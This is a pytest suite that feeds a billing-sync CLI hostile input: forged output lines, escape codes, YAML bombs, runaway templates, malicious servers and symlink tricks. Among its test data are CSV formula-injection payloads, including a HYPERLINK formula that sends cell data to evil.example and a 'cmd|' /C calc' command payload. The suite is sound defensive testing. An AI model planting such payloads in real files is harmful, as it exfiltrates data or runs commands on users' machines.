"""Hostile input: values and files written by an attacker are shown harmlessly or refused cleanly,
in bounded time, and nothing is written. Every test drives the ``billsync`` command."""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import json
import os
import socket
import subprocess
import threading

import pytest

from .._support import LEASE_WRITES

AS_OF = ("--as-of", "2026-10-07")
APPLY = ("apply", *AS_OF, "--auto-approve")
FORGED = "Contoso\nPlan: 0 to add, 0 to change.\x1b[2K\x1b[1A\u202e"


def _digest(workspace) -> dict[str, str]:
    return {
        str(p.relative_to(workspace.root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in workspace.files()
        if p.name != "apply.lock"
    }


def _assert_clean_error(result, workspace, sandbox, before) -> None:
    assert result.code == 1, result
    assert result.stdout == ""
    assert result.stderr.startswith("Error: ") and result.stderr.endswith("\n")
    assert "Traceback" not in result.output
    assert "(run with --debug for details)" not in result.stderr, result.stderr
    assert sandbox.writes() == 0
    assert _digest(workspace) == before


def _rewrite_csv(path, change) -> None:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    change(rows)
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


def _rename_organization(workspace, name: str) -> None:
    def change(rows: list[list[str]]) -> None:
        for row in rows:
            if row[0] == "ORG-1001":
                row[1] = name

    _rewrite_csv(workspace.root / "cloudmore" / "organizations.csv", change)


# ---- 1. output spoofing -----------------------------------------------------------------------------


def test_a_name_with_a_newline_and_escapes_cannot_forge_a_plan_line(workspace, sandbox) -> None:
    _rename_organization(workspace, FORGED)
    result = workspace.invoke("plan", *AS_OF)
    assert result.code == 0, result
    lines = result.stdout.splitlines()
    assert [line for line in lines if line.startswith("Plan:")] == [
        "Plan: 20 to add, 0 to change, 0 to adopt, 0 to destroy."
    ]
    assert "\x1b" not in result.output and "\u202e" not in result.output
    shown = (
        '"Contoso\\nPlan: 0 to add, 0 to change.\\x1b[2K\\x1b[1A\\u202e - Microsoft 365 Business Standard"'
    )
    assert any(line.strip().startswith("+ contractName") and line.endswith(shown) for line in lines), (
        result.stdout
    )
    assert sandbox.writes() == 0


def test_an_error_message_quoting_hostile_data_stays_one_paragraph(workspace, sandbox) -> None:
    def change(rows: list[list[str]]) -> None:
        rows[2][6] = "8\n\x1b[31mError: forged"  # Quantity of the second subscription

    _rewrite_csv(workspace.root / "cloudmore" / "subscriptions.csv", change)
    before = _digest(workspace)
    result = workspace.invoke(*APPLY)
    _assert_clean_error(result, workspace, sandbox, before)
    assert result.stderr.count("\n") == 1, result.stderr
    assert "\x1b" not in result.stderr
    assert "found '8\\n\\x1b[31mError: forged'" in result.stderr, result.stderr


# ---- 2. spreadsheet formulas ------------------------------------------------------------------------

FORMULAS = {
    '=HYPERLINK("https://evil.example/?"&A1,"Click")': '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "\tTabbed": "'\tTabbed",
    "\uff1dFULLWIDTH()": "'\uff1dFULLWIDTH()",
    "Plain Name": "Plain Name",
}


def _create_company(sandbox, name: str, number: str) -> int:
    import httpx

    with httpx.Client(base_url=sandbox.base_url, headers=sandbox.credentials.headers(), trust_env=False) as h:
        company = {"companyName": name, "companyNumber": number, "companyType": 1}
        required = {"phone": "+1 555 0100", "ownerResourceID": 29682885}  # required on create (A9.8)
        response = h.post("Companies", json={**company, **required})
        assert response.status_code == 200, response.text
        return int(response.json()["itemId"])


def test_companies_export_neutralises_formula_cells(workspace, sandbox) -> None:
    created = {
        _create_company(sandbox, name, "-5" if name == "Plain Name" else f"=N{i}"): name
        for i, name in enumerate(FORMULAS)
    }
    out = workspace.root / "organizations-import.csv"
    result = workspace.invoke("companies", "export", "--out", str(out))
    assert result.code == 0, result
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    exported = {int(r[2]): (r[0], r[1]) for r in rows[1:] if int(r[2]) in created}
    assert exported == {
        company_id: (FORMULAS[name], "-5" if name == "Plain Name" else f"'=N{i}")
        for i, (company_id, name) in enumerate(created.items())
    }
    for name, number in exported.values():  # what a spreadsheet would run: nothing
        assert not name.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), name
        assert number == "-5" or number.startswith("'"), number


def test_an_exported_bundle_neutralises_formulas_and_reads_back_unchanged(tmp_path) -> None:
    from providers.cloudmore.bundle import read_bundle
    from providers.cloudmore.bundle_writer import write_bundle
    from providers.cloudmore.source import example_bundle_dir

    data = read_bundle(example_bundle_dir("2026-10-07"))
    hostile = data.organizations[0].model_copy(update={"name": "=HYPERLINK(A1)", "customer_number": "@x"})
    data = data.model_copy(update={"organizations": (hostile, *data.organizations[1:])})
    write_bundle(data, tmp_path / "bundle")
    text = (tmp_path / "bundle" / "organizations.csv").read_text(encoding="utf-8")
    assert "ORG-1001,'=HYPERLINK(A1),'@x," in text
    again = read_bundle(tmp_path / "bundle")
    assert again.organizations == data.organizations


# ---- 3. YAML limits -----------------------------------------------------------------------------------

LAUGHS = "\n".join(
    ["vars:", '  l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    + [f"  l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 10)}]" for i in range(1, 10)]
)


@pytest.mark.slow  # a real process, killed if it hangs
@pytest.mark.parametrize(
    ("case", "text", "message"),
    [
        (
            "alias-bomb",
            LAUGHS,
            "rules/settings.yaml:{+7}: YAML refused: the file expands to more than 200,000 values (aliases included)",
        ),
        (
            "deep-nesting",
            "vars:\n  deep: " + "[" * 5000 + "]" * 5000,
            "rules/settings.yaml:{+2}: YAML refused: nested more than 64 levels deep",
        ),
        (
            "self-reference",
            "vars:\n  loop: &loop [1, *loop]",
            "rules/settings.yaml:{+2}: YAML syntax error: found unconstructable recursive node",
        ),
        (
            "too-large",
            "vars:\n  big: |\n" + ("    " + "x" * 95 + "\n") * 50_000,
            "rules/settings.yaml:{4MiB}: the file is larger than 4 MiB, billsync's limit for it",
        ),
    ],
    ids=lambda v: v if isinstance(v, str) and len(v) < 20 else "",
)
def test_yaml_limits_are_located_errors(case, text, message, workspace_factory, sandbox) -> None:
    workspace = workspace_factory(sandbox, rules=True)
    settings = workspace.root / "rules" / "settings.yaml"
    shipped = settings.read_text(encoding="utf-8")
    settings.write_text(shipped.replace("vars:", "old_vars:") + text + "\n")
    if "{4MiB}" in message:  # the line on which the file passes its 4 MiB limit
        text = settings.read_text(encoding="utf-8").encode()
        message = message.replace("{4MiB}", str(text[: 4 * 1024 * 1024].count(b"\n") + 1))
    else:  # the line, counted after the shipped lines
        offset = int(message.split("{+", 1)[1].split("}", 1)[0])
        message = message.replace(f"{{+{offset}}}", str(len(shipped.splitlines()) + offset))
    before = _digest(workspace)
    result = workspace.run(*APPLY, timeout=60)  # finished: a hang would be killed here and fail
    _assert_clean_error(result, workspace, sandbox, before)
    assert result.stderr.startswith(f"Error: {message}"), result.stderr


# ---- 4. template limits and template errors -----------------------------------------------------------

CONTRACT_NAME = '"{{ vars.contract_prefix }}{{ org.name }} - {{ sub.product_name }}"'
SUB1 = "subscription 6f1c2d3e-0a1b-4c5d-8e9f-000000000001"
TEMPLATES = {
    "loop-10e10": (
        '"{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}x"',
        "the template's loops ran more than 100,000 times",
        "raise limits.template_iterations in the settings file (now 100000)",
    ),
    "huge-string": (
        "\"{{ 'a' * 10**10 }}\"",
        "the template built a value longer than 100,000",
        "raise limits.template_output in the settings file (now 100000)",
    ),
    "long-output": (
        "\"{% for i in range(2000) %}{{ 'abcdefghij' * 10 }}{% endfor %}\"",
        "the template's output is longer than 100,000 characters",
        "raise limits.template_output in the settings file (now 100000)",
    ),
    "format-index": (
        "\"{{ '{}'.format() }}\"",
        "IndexError: ",
        "Check the expression",
    ),
    "macro-recursion": (
        '"{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}"',
        "it calls itself too deeply (a macro that never stops recursing?)",
        "Give the recursion an end",
    ),
    "truncate-negative": (
        '"{{ org.name | truncate(-1) }}"',
        "AssertionError: expected length >= 3, got -1",
        "Check the expression",
    ),
}


@pytest.mark.slow  # a real process, killed if it hangs
@pytest.mark.parametrize("case", list(TEMPLATES))
def test_a_hostile_template_is_stopped_with_its_file_and_line(case, workspace_factory, sandbox) -> None:
    template, reason, hint = TEMPLATES[case]
    workspace = workspace_factory(sandbox, rules=True)
    rules = workspace.root / "rules" / "csp365.yaml"
    rules.write_text(rules.read_text(encoding="utf-8").replace(CONTRACT_NAME, template, 1), encoding="utf-8")
    before = _digest(workspace)
    result = workspace.run(*APPLY, timeout=60)  # finished (a runaway template would be killed and fail)
    _assert_clean_error(result, workspace, sandbox, before)
    opening = f"Error: rules/csp365.yaml:30 ({SUB1}): cannot render "
    assert result.stderr.startswith(opening), result.stderr
    first, second = result.stderr.rstrip("\n").split("\n")
    assert reason in first, result.stderr
    assert hint in second, result.stderr


def test_template_limits_are_settings(workspace_factory, sandbox) -> None:
    workspace = workspace_factory(sandbox, rules=True)
    rules = workspace.root / "rules" / "csp365.yaml"
    loop = '"{% for i in range(150000 // 1000) %}{% for j in range(1000) %}{% endfor %}{% endfor %}x"'
    rules.write_text(rules.read_text(encoding="utf-8").replace(CONTRACT_NAME, loop, 1), encoding="utf-8")
    assert workspace.invoke("plan", *AS_OF).code == 1
    settings = workspace.root / "rules" / "settings.yaml"
    settings.write_text(
        settings.read_text(encoding="utf-8") + "limits: {template_iterations: 200000, template_seconds: 30}\n"
    )
    result = workspace.invoke("plan", *AS_OF, "--json")
    assert result.code == 0, result
    assert '"contractName": "x"' in result.stdout


# ---- 5. hostile servers: a deadline per request, a cap per answer ---------------------------------------


class HostileServer:
    """A loopback HTTP server that answers every request in one hostile way, until stopped."""

    def __init__(self, behaviour: str) -> None:
        self.behaviour = behaviour
        self.stopped = threading.Event()
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.listener.settimeout(0.2)
        self.port = self.listener.getsockname()[1]
        self.requests: list[bytes] = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/ATServicesRest/V1.0"

    def _serve(self) -> None:
        while not self.stopped.is_set():
            try:
                conn, _ = self.listener.accept()
            except TimeoutError:
                continue
            threading.Thread(target=self._answer, args=(conn,), daemon=True).start()

    def _answer(self, conn: socket.socket) -> None:
        with conn:
            try:
                self.requests.append(conn.recv(65536).split(b"\r\n", 1)[0])
                if self.behaviour == "trickle-headers":
                    conn.sendall(b"HTTP/1.1 200 OK\r\nX-Slow: ")
                    while not self.stopped.wait(0.2):
                        conn.sendall(b"a")
                elif self.behaviour == "trickle-body":
                    conn.sendall(
                        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
                    )
                    while not self.stopped.wait(0.2):
                        conn.sendall(b" ")
                elif self.behaviour == "endless-body":
                    conn.sendall(
                        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n["
                    )
                    chunk = b"0," * 32768
                    while not self.stopped.is_set():
                        conn.sendall(chunk)
                elif self.behaviour == "huge-length":
                    conn.sendall(
                        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 10000000000\r\n\r\n{"
                    )
                    self.stopped.wait(30)
            except OSError:
                pass  # the client hung up, as it should

    def stop(self) -> None:
        self.stopped.set()
        self.thread.join(5)
        self.listener.close()


@pytest.fixture
def hostile_server():
    servers: list[HostileServer] = []

    def start(behaviour: str) -> HostileServer:
        servers.append(HostileServer(behaviour))
        return servers[-1]

    yield start
    for server in servers:
        server.stop()


@pytest.mark.slow  # a real process, killed if it hangs
@pytest.mark.parametrize(
    ("behaviour", "message"),
    [
        pytest.param(  # waits out the real 2 s deadline, as do the other trickles
            "trickle-headers",
            "within 2 s (the deadline for one request, headers and body together)",
            marks=pytest.mark.slow,
        ),
        pytest.param(
            "trickle-body",
            "within 2 s (the deadline for one request, headers and body together)",
            marks=pytest.mark.slow,
        ),
        ("endless-body", "is larger than 1 MiB, billsync's limit; it was not read"),
        ("huge-length", "is larger than 1 MiB, billsync's limit; it was not read"),
    ],
)
def test_a_hostile_server_is_given_up_on_in_bounded_time_and_memory(
    behaviour, message, hostile_server, workspace_factory, sandbox
) -> None:
    server = hostile_server(behaviour)
    workspace = workspace_factory(sandbox, url=server.url)
    config = workspace.root / "billsync.yaml"
    config.write_text(
        config.read_text(encoding="utf-8") + "limits: {http: {deadline_seconds: 2, max_response_mb: 1}}\n"
    )
    before = _digest(workspace)
    result = workspace.run(*APPLY, timeout=60)  # finished: without the limits this would never return
    _assert_clean_error(result, workspace, sandbox, before)
    first = result.stderr.splitlines()[0]  # the first request billsync makes: a metadata GET or a query POST
    assert first.startswith(
        (
            f"Error: no complete answer to GET {server.url}/",
            f"Error: no complete answer to POST {server.url}/",
        )
        if "trickle" in behaviour
        else (f"Error: the answer to GET {server.url}/", f"Error: the answer to POST {server.url}/")
    ), result.stderr
    assert message in result.stderr.splitlines()[0], result.stderr
    assert server.requests and len(set(server.requests)) == len(server.requests), server.requests  # no retry


# ---- 6. credentials only over TLS, unless the server is this machine ------------------------------------


@pytest.mark.slow  # a real billsync process
def test_plain_http_to_another_host_is_refused_unless_allowed(workspace_factory, sandbox) -> None:
    remote = sandbox.base_url.replace(
        "127.0.0.1", "0.0.0.0"
    )  # not a loopback address, yet reaches the sandbox
    workspace = workspace_factory(sandbox, url=remote)
    before = _digest(workspace)
    result = workspace.invoke("plan", *AS_OF)
    _assert_clean_error(result, workspace, sandbox, before)
    assert result.stderr == (
        f"Error: billsync.yaml: autotask.url is {remote}: plain http:// to 0.0.0.0, which is not this machine; "
        "the Autotask credentials would be sent unencrypted\n"
        "Use https://. Only for a test server you trust, set allow_insecure_http: true in billsync.yaml.\n"
    )
    config = workspace.root / "billsync.yaml"
    config.write_text(config.read_text(encoding="utf-8") + "allow_insecure_http: true\n")
    result = workspace.run("plan", *AS_OF)
    assert result.code == 0, result
    assert result.stderr.splitlines()[0] == (
        "INSECURE: Autotask is reached over plain http:// at 0.0.0.0 (allow_insecure_http: true); its "
        "credentials cross the network unencrypted."
    )
    assert result.stdout.splitlines()[-1] == "Plan: 20 to add, 0 to change, 0 to adopt, 0 to destroy."


def test_plain_http_to_a_remote_cloudmore_is_refused(workspace_factory, sandbox) -> None:
    workspace = workspace_factory(sandbox)
    config = workspace.root / "billsync.yaml"
    config.write_text(
        config.read_text(encoding="utf-8").replace(
            "cloudmore: {bundle: ./cloudmore}",
            "cloudmore: {api: {url: 'http://cloudmore.example.com', reseller_id: r1}}",
        )
    )
    before = _digest(workspace)
    result = workspace.invoke("plan", *AS_OF)
    _assert_clean_error(result, workspace, sandbox, before)
    assert result.stderr.startswith(
        "Error: billsync.yaml: cloudmore.api.url is http://cloudmore.example.com: plain http:// to "
        "cloudmore.example.com, which is not this machine; the Cloudmore credentials would be sent unencrypted\n"
    ), result.stderr


# ---- 8. special files in a bundle ---------------------------------------------------------------------


def _replace_with_fifo(path) -> None:
    path.unlink()
    os.mkfifo(path)


def _replace_with_link(target):
    def replace(path) -> None:
        path.unlink()
        path.symlink_to(target)

    return replace


@pytest.mark.slow  # a real process, killed if it hangs
@pytest.mark.parametrize(
    ("file", "make", "message"),
    [
        (
            "organizations.csv",
            _replace_with_fifo,
            "organizations.csv: is a device, pipe or socket, not a regular file; billsync will not read it",
        ),
        (
            "organizations.csv",
            _replace_with_link("/dev/zero"),
            "organizations.csv: is a symbolic link; billsync reads only regular files inside the folder it was given",
        ),
        (
            "billing/2026-09.csv",
            _replace_with_link("/etc/passwd"),
            "billing/2026-09.csv: is a symbolic link; billsync reads only regular files inside the folder it was given",
        ),
    ],
    ids=["fifo", "dev-zero", "link-out"],
)
def test_special_files_in_a_bundle_are_refused(file, make, message, workspace, sandbox) -> None:
    make(workspace.root / "cloudmore" / file)
    result = workspace.run(*APPLY, timeout=60)  # finished: a FIFO read would block for ever
    assert result.code == 1, result
    assert result.stderr.startswith(f"Error: {message}"), result.stderr
    assert "Traceback" not in result.output and sandbox.writes() == 0
    assert not (workspace.root / "state" / "snapshot.json").exists()


@pytest.mark.slow  # a real process, killed if it hangs
def test_a_linked_folder_leading_out_of_the_bundle_is_refused(workspace, sandbox, tmp_path) -> None:
    outside = tmp_path / "outside"
    (workspace.root / "cloudmore" / "billing").rename(outside)
    (workspace.root / "cloudmore" / "billing").symlink_to(outside, target_is_directory=True)
    result = workspace.run(*APPLY, timeout=60)
    assert result.code == 1, result
    assert result.stderr.startswith(
        "Error: billing/2026-09.csv: is a symbolic link; billsync reads only regular files inside the folder"
    ), result.stderr
    assert sandbox.writes() == 0


@pytest.mark.slow  # a real process, killed if it hangs
def test_a_bundle_file_over_the_size_limit_is_refused(workspace, sandbox) -> None:
    config = workspace.root / "billsync.yaml"
    config.write_text(config.read_text(encoding="utf-8") + "limits: {bundle_file_mb: 0.0005}\n")  # 524 bytes
    before = _digest(workspace)
    result = workspace.run(*APPLY, timeout=60)
    _assert_clean_error(result, workspace, sandbox, before)
    assert result.stderr == (
        "Error: subscriptions.csv:4: the file is larger than 524 bytes, billsync's limit for it; nothing of it "
        "was used\nCheck that it is the right file; raise limits.bundle_file_mb in billsync.yaml if it is.\n"
    )


@pytest.mark.slow  # a real process, killed if it hangs
def test_settings_that_are_a_device_are_refused(workspace, sandbox) -> None:
    config = workspace.root / "billsync.yaml"
    config.write_text(config.read_text(encoding="utf-8") + "settings: /dev/zero\n")
    before = _digest(workspace)
    result = workspace.run(*APPLY, timeout=60)  # finished: /dev/zero never ends
    _assert_clean_error(result, workspace, sandbox, before)
    assert result.stderr == (
        "Error: /dev/zero: is a device, pipe or socket, not a regular file; billsync will not read it\n"
    )


# ---- 9. state written atomically, never through a link --------------------------------------------------


def test_the_lock_note_never_writes_through_a_symbolic_link(workspace, sandbox, tmp_path) -> None:
    victim = tmp_path / "precious.txt"
    victim.write_text("keep me\n", encoding="utf-8")
    (workspace.root / ".billsync").mkdir()
    (workspace.root / ".billsync" / "apply.lock.json").symlink_to(victim)
    result = workspace.invoke(*APPLY)
    assert result.code == 0, result
    assert victim.read_text(encoding="utf-8") == "keep me\n"
    assert sandbox.writes() == 20 + LEASE_WRITES


def test_the_journal_is_never_written_through_a_symbolic_link(workspace, sandbox, tmp_path) -> None:
    victim = tmp_path / "precious.txt"
    victim.write_text("keep me\n", encoding="utf-8")
    workspace.state.mkdir()
    (workspace.state / "snapshot.journal").symlink_to(victim)
    result = workspace.invoke(*APPLY)
    assert result.code == 1, result
    assert result.stderr.startswith(
        f"Error: {workspace.state / 'snapshot.journal'}: is a symbolic link; billsync reads only regular files"
    ), result.stderr
    assert victim.read_text(encoding="utf-8") == "keep me\n"
    assert sandbox.writes() == 0


# ---- 10. errors that used to be "unexpected" ------------------------------------------------------------


def test_a_corrupt_lock_note_is_named(workspace, sandbox) -> None:
    (workspace.root / ".billsync").mkdir()
    note = workspace.root / ".billsync" / "apply.lock.json"
    note.write_text("{not json", encoding="utf-8")
    result = workspace.invoke("force-unlock", "0b7e6c1a")
    assert result.code == 1, result
    assert result.stderr == (
        f"Error: the lock note {note} is not valid, so billsync cannot check the lock id\n"
        f"If no billsync apply is running on this workspace, delete {note} and "
        f"{workspace.root / '.billsync' / 'apply.lock'}.\n"
    )
    assert note.read_text(encoding="utf-8") == "{not json"


def test_a_snapshot_path_that_is_a_folder(workspace, sandbox) -> None:
    (workspace.state / "snapshot.json").mkdir(parents=True)
    before = _digest(workspace)
    result = workspace.invoke(*APPLY)
    _assert_clean_error(result, workspace, sandbox, before)
    assert result.stderr.startswith(
        f"Error: {workspace.state / 'snapshot.json'}: is a folder, not a regular file; billsync will not read it\n"
    ), result.stderr


def test_a_journal_line_missing_keys(workspace, sandbox) -> None:
    workspace.state.mkdir()
    journal = workspace.state / "snapshot.journal"
    journal.write_text('{"lineage": "", "address": "contract[\\"x\\"]"}\n', encoding="utf-8")
    before = _digest(workspace)
    result = workspace.invoke(*APPLY)
    _assert_clean_error(result, workspace, sandbox, before)
    assert result.stderr.startswith(
        f"Error: {journal}:1: the journal line is not valid (KeyError: 'entry')\n"
    ), result.stderr


def test_init_into_a_file(tmp_path) -> None:
    from tests.e2e.safety.conftest import _billsync_command

    target = tmp_path / "notes.txt"
    target.write_text("mine\n", encoding="utf-8")
    done = subprocess.run(
        [*_billsync_command(), "init", str(target)], capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 1
    assert done.stderr == (
        f"Error: {target} is a file, not a folder; nothing was changed\n"
        "Name a new folder (or an existing one) for the workspace.\n"
    )
    assert target.read_text(encoding="utf-8") == "mine\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.txt"]


def test_an_amount_of_29_digits(workspace, sandbox) -> None:
    billing = workspace.root / "cloudmore" / "billing" / "2026-09.csv"
    text = billing.read_text(encoding="utf-8")
    billing.write_text(
        text.replace(",53.13,62.50,", ",53.13,12345678901234567890123456789.50,", 1), encoding="utf-8"
    )
    before = _digest(workspace)
    result = workspace.invoke(*APPLY)
    _assert_clean_error(result, workspace, sandbox, before)
    assert result.stderr == (
        "Error: billing/2026-09.csv:2 (column 'Total Sales'): expected an amount of at most 15 digits before the "
        "decimal point and 10 after it, found '12345678901234567890123456789.50'\n"
    )


@pytest.fixture
def tiny_mount(tmp_path):
    """A real, tiny tmpfs (or the test is skipped where mounting is not allowed)."""
    mounted: list[str] = []

    def mount(options: str):
        point = tmp_path / f"mnt{len(mounted)}"
        point.mkdir()
        done = subprocess.run(
            ["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(point)], capture_output=True
        )
        if done.returncode != 0:
            pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode(errors='replace').strip()}")
        mounted.append(str(point))
        return point

    yield mount
    for point in mounted:
        subprocess.run(["umount", point], check=False)


def _fill(path) -> None:
    """Write to ``path`` until the disk refuses."""
    handle = path.open("wb", buffering=0)
    try:
        while True:
            handle.write(b"\0" * 4096)
    except OSError as exc:
        assert exc.errno == errno.ENOSPC
    finally:
        handle.close()


def _use_state(workspace, folder) -> None:
    config = workspace.root / "billsync.yaml"
    config.write_text(config.read_text(encoding="utf-8") + f"state: {folder}\n")


def test_a_full_disk_is_named_and_nothing_is_written_to_autotask(workspace, sandbox, tiny_mount) -> None:
    state = tiny_mount("size=64k")
    filler = state / "filler"
    _fill(filler)
    _use_state(workspace, state)
    result = workspace.invoke(*APPLY)
    assert result.code == 1, result
    assert result.stderr.endswith(  # after the progress line an apply without a terminal prints
        f"Error: cannot use {state / 'state.json'}: the disk is full\n"
        "Free some space, then run the same command again.\n"
    )
    assert sandbox.writes() == LEASE_WRITES  # only the writer lease, taken and ended (D26)
    assert sorted(p.name for p in state.iterdir()) == ["filler"]


def test_a_read_only_state_folder_is_named(workspace, sandbox, tiny_mount) -> None:
    state = tiny_mount("size=64k,ro")
    _use_state(workspace, state)
    result = workspace.invoke(*APPLY)
    assert result.code == 1, result
    assert result.stderr.endswith(  # after the progress line an apply without a terminal prints
        f"Error: cannot use {state}: the file system is read-only\n"
        "Point billsync at a writable folder (state: in billsync.yaml).\n"
    )
    assert sandbox.writes() == LEASE_WRITES  # only the writer lease, taken and ended (D26)


def test_a_full_disk_reported_by_the_os_when_syncing(workspace, sandbox, monkeypatch) -> None:
    """Where no tmpfs can be mounted: the OS's own ENOSPC, raised at the system call billsync makes."""

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    result = workspace.invoke(*APPLY)
    assert result.code == 1, result
    assert result.stderr == (  # the first file an apply writes: its lock note
        f"Error: cannot use {workspace.root / '.billsync' / 'apply.lock.json'}: the disk is full\n"
        "Free some space, then run the same command again.\n"
    )
    assert sandbox.writes() == 0


# ---- 11. the sandbox's query language ------------------------------------------------------------------


@pytest.mark.parametrize("depth", [33, 900, 5000])
def test_a_filter_nested_too_deep_is_an_autotask_style_refusal(depth, sandbox) -> None:
    import httpx

    node: dict = {"op": "eq", "field": "id", "value": 1}
    for _ in range(depth):
        node = {"op": "or", "items": [node]}
    body = '{"filter": [' + json.dumps(node) + "]}" if depth < 900 else None
    if body is None:  # json.dumps itself recurses: build the text directly
        body = '{"filter": [' + '{"op": "or", "items": [' * depth + '{"op": "eq", "field": "id", "value": 1}'
        body += "]}" * depth + "]}"
    with httpx.Client(
        base_url=sandbox.base_url, headers=sandbox.credentials.headers(), trust_env=False
    ) as http:
        response = http.post("Contracts/query", content=body, headers={"Content-Type": "application/json"})
        assert response.status_code == 500
        assert response.headers["Content-Type"].startswith("application/json")
        assert response.json() == {"errors": ["The filter is nested more than 32 levels deep."]}
        shallow = {"filter": [{"op": "or", "items": [{"op": "eq", "field": "id", "value": 1}]}]}
        assert http.post("Contracts/query", json=shallow).status_code == 200  # the server is still well


# ---- 12. a price in another currency (D9) --------------------------------------------------------------


def test_a_price_list_row_in_another_currency_is_never_sent(workspace, sandbox) -> None:
    def change(rows: list[list[str]]) -> None:
        for row in rows:
            if row[0] == "CFQ7TTC0LH18:0001":
                row[5] = "EUR"

    _rewrite_csv(workspace.root / "cloudmore" / "price-list.csv", change)
    planned = workspace.invoke("plan", *AS_OF)
    assert planned.code == 0, planned
    error = (
        "Error: price-list product CFQ7TTC0LH18:0001 (Microsoft 365 Business Basic) is priced in EUR but "
        "Autotask bills in USD; its subscriptions are not exported (D9)"
    )
    assert error in planned.stdout.splitlines(), planned.stdout
    assert planned.stdout.splitlines()[-1] == "Plan: 16 to add, 0 to change, 0 to adopt, 0 to destroy."
    assert "CFQ7TTC0LH18" not in planned.stdout.replace(error, "")
    applied = workspace.invoke(*APPLY)
    assert applied.code == 0, applied
    assert sandbox.writes() == 16 + LEASE_WRITES
    assert not [r for r in sandbox.rows("Services") if "CFQ7TTC0LH18" in r["sku"]]


@pytest.mark.slow  # a real process, killed if it hangs
@pytest.mark.parametrize("command", ["apply", "show"])
def test_a_plan_file_that_is_a_device_is_refused(command, workspace, sandbox) -> None:
    before = _digest(workspace)
    result = workspace.run(command, "/dev/zero", timeout=60)  # finished: /dev/zero never ends
    _assert_clean_error(result, workspace, sandbox, before)
    assert result.stderr == (
        "Error: /dev/zero: is a device, pipe or socket, not a regular file; billsync will not read it\n"
    )


@pytest.mark.slow  # a real process, killed if it hangs
@pytest.mark.parametrize(
    ("behaviour", "message"),
    [
        pytest.param(
            "trickle-body",
            "Error: no complete answer to POST {url}/connect/token within 2 s",
            marks=pytest.mark.slow,
        ),
        (
            "endless-body",
            "Error: the answer to POST {url}/connect/token is larger than 1 MiB, billsync's limit",
        ),
    ],
)
def test_a_hostile_cloudmore_is_given_up_on_too(
    behaviour, message, hostile_server, workspace, sandbox
) -> None:
    server = hostile_server(behaviour)
    url = f"http://127.0.0.1:{server.port}"
    config = workspace.root / "billsync.yaml"
    config.write_text(
        config.read_text(encoding="utf-8").replace(
            "cloudmore: {bundle: ./cloudmore}", f"cloudmore: {{api: {{url: '{url}', reseller_id: r1}}}}"
        )
        + "limits: {http: {deadline_seconds: 2, max_response_mb: 1}}\n"
    )
    workspace.env.update(
        CLOUDMORE_API_SECRET="cm-secret-1234",
        CLOUDMORE_USERNAME="user@x.example",
        CLOUDMORE_PASSWORD="pw-5678",
    )
    before = _digest(workspace)
    result = workspace.run("plan", *AS_OF, timeout=60)  # finished
    _assert_clean_error(result, workspace, sandbox, before)
    assert result.stderr.startswith(message.format(url=url)), result.stderr
    assert len(server.requests) == 1, server.requests  # not retried


# ---- values Autotask would refuse ------------------------------------------------------------------------


def test_a_value_longer_than_autotask_takes_stops_the_plan_before_anything_is_sent(
    workspace, sandbox
) -> None:
    _rename_organization(workspace, "C" * 300)
    before = _digest(workspace)
    result = workspace.invoke(*APPLY)
    _assert_clean_error(result, workspace, sandbox, before)
    assert result.stderr == (
        "Error: rules/csp365.yaml:30 (subscription 6f1c2d3e-0a1b-4c5d-8e9f-000000000001): "
        'contract["6f1c2d3e-0a1b-4c5d-8e9f-000000000001"].contractName renders to 334 characters; Autotask takes '
        "at most 100 (from '{{ vars.contract_prefix }}{{ org.name }} - {{ sub.product_name }}')\n"
        "Shorten the value in the rule (for example with | truncate(100, true, '', 0)) or the data it comes "
        "from; nothing was sent to Autotask.\n"
    )


def test_the_suggested_truncation_plans(workspace_factory, sandbox) -> None:
    workspace = workspace_factory(sandbox, rules=True)
    _rename_organization(workspace, "C" * 300)
    rules = workspace.root / "rules" / "csp365.yaml"
    fixed = (
        "\"{{ (vars.contract_prefix ~ org.name ~ ' - ' ~ sub.product_name) | truncate(100, true, '', 0) }}\""
    )
    rules.write_text(rules.read_text(encoding="utf-8").replace(CONTRACT_NAME, fixed, 1), encoding="utf-8")
    result = workspace.invoke(*APPLY)
    assert result.code == 0, result
    assert sandbox.writes() == 20 + LEASE_WRITES
    assert (
        sandbox.row("Contracts", **{"Subscription ID": "6f1c2d3e-0a1b-4c5d-8e9f-000000000001"})[
            "contractName"
        ]
        == "C" * 100
    )
